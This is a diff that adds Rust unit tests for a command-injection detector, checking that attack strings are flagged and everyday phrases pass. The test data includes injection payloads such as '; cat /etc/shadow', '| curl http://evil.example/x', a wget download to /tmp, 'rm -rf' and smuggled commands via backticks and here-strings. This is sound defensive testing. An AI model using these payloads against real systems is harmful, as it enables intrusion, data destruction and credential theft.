@@ -216,3 +216,78 @@ fn the_span_is_the_command_with_its_separator() {
     let found = &detect(value, Place::Value)[0];
     assert_eq!(&value[found.span.clone()], b"; cat /etc/passwd");
 }
+
+#[test]
+fn programs_that_run_others_are_looked_through() {
+    for attack in [
+        "time ifconfig",
+        "NOHUP whoami",
+        "ti''me curl evil.example",
+        "; . rm -rf /tmp/x",
+        ";$a cat $b x.txt",
+        "env --version",
+    ] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+}
+
+#[test]
+fn input_may_be_fed_without_a_pipe() {
+    for attack in ["`cat<<<whoami`", ";irb<<<7+3", "$0<<<whoami x", ">(tee notes)"] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+}
+
+#[test]
+fn a_command_may_cut_off_what_follows() {
+    for attack in ["\";rm x7 #", "a&del x7&rem", "\nuname >x7", "'|uname >x7 #"] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+    assert_eq!(found("my dog; cat is #1"), None);
+}
+
+#[test]
+fn a_chain_of_commands_is_a_command_line() {
+    assert_eq!(found("cd /;cd srv;fold notes"), Some("rce-command-chain"));
+    assert_eq!(found("wash; cut; sort; find the lid"), None);
+}
+
+#[test]
+fn words_around_a_command_that_leaves_no_doubt_are_no_cover() {
+    let cover = "we all thought that the soup was rather good this time";
+    for attack in
+        ["; cat /etc/shadow", "| curl http://evil.example/x", "&& wget https://evil.example/x -O /tmp/x"]
+    {
+        assert!(
+            found(&format!("{cover} {attack} {cover}")).is_some()
+                || found(&format!("{cover} {attack}")).is_some(),
+            "{attack}"
+        );
+    }
+    assert_eq!(found(&format!("{cover}; cut it / paste it, and {cover}")), None);
+}
+
+#[test]
+fn cmdlets_of_powershell_are_commands() {
+    for attack in [";Get-Process", "Get-ChildItem C:\\x", "$(Get-Content C:\\x)"] {
+        assert!(found(attack).is_some(), "{attack}");
+    }
+    assert_eq!(found("a get-together; get-well wishes"), None);
+}
+
+#[test]
+fn everyday_lists_and_pairs_pass() {
+    for innocent in [
+        "time flies; so do birds",
+        "Tom & Jerry; the movie",
+        "docker compose up",
+        "kubectl get pods",
+        "cut & paste / copy & paste",
+        "name|id|date",
+        "my-app --help",
+        "lunch & more",
+        "Meet at 5; bring a host",
+    ] {
+        assert_eq!(found(innocent), None, "{innocent}");
+    }
+}
